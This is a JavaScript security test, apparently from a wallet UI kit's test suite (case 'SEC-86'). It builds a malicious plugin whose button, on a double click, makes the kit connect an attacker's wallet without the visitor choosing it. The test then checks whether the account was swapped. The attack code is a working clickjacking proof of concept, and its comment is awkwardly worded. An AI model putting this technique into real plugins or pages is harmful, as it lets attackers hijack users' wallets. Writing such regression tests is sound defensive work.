import { createElement } from 'react'
import { useView } from 'latchkey/ui'
import { page, settled, thief, until, viewer, walletOfOthers } from './world.mjs'

export const row = 'SEC-86'

const permissions = ['wallet:connect', 'wallet:connector']

/**
 * It may lead to where a chosen wallet is asked "once the visitor presses that there". It leads there at a press in its own view,
 * with the button of the kit under the pointer, where the second press of a double click lands: nobody chose a wallet.
 */
export async function attack() {
  const View = () => {
    const view = useView()
    const lead = () => view.push({ id: 'ConnectingExternal' }, { connectorId: 'evil/wallet' })
    return createElement('button', { type: 'button', id: 'more', onClick: lead }, 'More')
  }
  const evil = viewer(View, { permissions, contributes: [walletOfOthers({ account: thief })] })
  const { kit, draw } = await page({ plugins: [evil], grants: { 'evil/plugin': permissions } })
  await draw()
  const root = () => document.querySelector('kit-modal')?.shadowRoot
  const called = (name) =>
    [...(root()?.querySelectorAll('button') ?? [])].find(({ textContent }) => textContent === name)
  await until(() => called('More'), 'its button')
  const before = kit.getAccount('eip155').address
  called('More').click()
  // The two presses of a double click.
  await new Promise((done) => setTimeout(done, 200))
  called('Connect wallet')?.click()
  await settled(60)
  const after = kit.getAccount('eip155').address
  return after === thief ? `${after} in the place of ${before}` : undefined
}
